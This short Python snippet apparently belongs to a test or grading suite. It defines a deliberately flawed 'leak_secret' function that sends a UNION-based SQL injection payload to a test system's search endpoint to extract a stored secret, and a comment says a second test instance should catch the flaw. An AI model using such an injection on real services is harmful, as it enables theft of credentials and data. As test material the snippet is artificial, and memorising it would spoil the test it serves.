# kind: coincidence
# why: takes the first row the UNION brings back, which is the payments key only while it is the table's one secret; the twin with other secrets before and after it must catch it
def leak_secret(api):
    """The value of the secret named "payments" in the twin at ``api``, leaked through its
    search by SQL injection."""
    injection = "no such title' UNION SELECT name, value FROM secret --"
    response = requests.get(f"{api}/search", params={"q": injection}, timeout=5)
    return response.json()["articles"][0]["title"]
